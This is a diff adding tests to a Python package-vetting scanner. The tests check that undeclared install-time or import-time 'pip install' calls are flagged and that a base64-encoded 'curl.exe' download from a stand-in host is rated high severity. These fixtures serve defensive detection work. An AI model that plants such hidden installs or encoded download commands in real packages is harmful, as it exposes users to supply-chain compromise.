@@ -8,7 +8,7 @@ import base64
 
 from assay.advisories.severity import Level
 from assay.vetting.engine import analyse_archive
-from tests.vetting.package_builder import rules, sdist, vet_sdist, vet_wheel
+from tests.vetting.package_builder import first, rules, sdist, vet_sdist, vet_wheel
 
 
 def _b64(text: str) -> str:
@@ -188,3 +188,38 @@ def test_packed_setup_py_is_high():
     assert finding.severity == Level.HIGH
     finding = _finding(vet_wheel({"demo/core.py": packed}), "obfuscation-packer")
     assert finding.severity == Level.MEDIUM
+
+
+def test_pip_install_of_named_packages_at_install_or_import_time():
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "os.system('pip install requests')\nsetup(name='demo')\n"
+    )
+    finding = first(vet_sdist({"setup.py": setup}), "capability-undeclared-install")
+    assert (finding.severity, finding.where) == (Level.HIGH, "install")
+    module = (
+        "import subprocess, sys\n"
+        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'telebot'])\n"
+    )
+    finding = first(vet_wheel({"demo/__init__.py": module}), "capability-undeclared-install")
+    assert (finding.severity, finding.where) == (Level.MEDIUM, "import")
+
+
+def test_pip_install_of_the_project_itself_or_on_request_is_not_reported():
+    setup = "import os\nfrom setuptools import setup\nos.system('pip install .')\nsetup(name='d')\n"
+    assert "capability-undeclared-install" not in rules(vet_sdist({"setup.py": setup}))
+    editable = setup.replace("pip install .", "pip install -e .")
+    assert "capability-undeclared-install" not in rules(vet_sdist({"setup.py": editable}))
+    extra = (
+        "import subprocess, sys\n\ndef enable_sentry():\n"
+        "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'sentry_sdk'])\n"
+    )
+    assert "capability-undeclared-install" not in rules(vet_wheel({"demo/extra.py": extra}))
+
+
+def test_encoded_download_command_is_high():
+    command = "curl.exe --output page.css --url https://files.example.invalid/a"
+    encoded = base64.b64encode(command.encode()).decode()
+    code = f"import base64\n\ndef cmd():\n    return base64.b64decode({encoded!r})\n"
+    finding = first(vet_wheel({"demo/__init__.py": code}), "obfuscation-encoded-command")
+    assert finding.severity == Level.HIGH
